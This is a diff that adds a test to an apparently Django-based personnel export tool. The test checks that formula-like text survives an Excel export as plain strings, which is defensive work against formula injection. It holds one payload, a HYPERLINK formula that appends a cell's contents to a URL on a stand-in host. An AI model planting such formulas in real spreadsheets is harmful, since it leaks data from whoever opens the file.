@@ -127,6 +127,20 @@ def test_export_of_a_subtree(tree, tmp_path):
     assert event.summary["rows"] == 2 and event.actor_label == "hệ thống"
 
 
+def test_the_operator_export_keeps_formula_like_text_as_text(tree, tmp_path):
+    _people(tree)
+    hyperlink = '=HYPERLINK("http://x?d="&A2,"y")'
+    Person.objects.filter(code="HT-0001").update(residence=hyperlink, other_names="-2", workplace="+1")
+    path = tmp_path / "t01.xlsx"
+    assert command("people_export", str(path), "--unit", "T01")[0] == 0
+    sheet = load_workbook(path).worksheets[0]
+    header = [cell.value for cell in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "HT-0001")
+    cells = dict(zip(header, row, strict=True))
+    for name, value in (("Nơi ở hiện nay", hyperlink), ("Tên gọi khác", "-2"), ("Cơ quan công tác", "+1")):
+        assert (cells[name].value, cells[name].data_type) == (value, "s")
+
+
 def test_export_then_import_changes_nothing(tree, tmp_path):
     _people(tree)
     path = tmp_path / "ca-cay.xlsx"
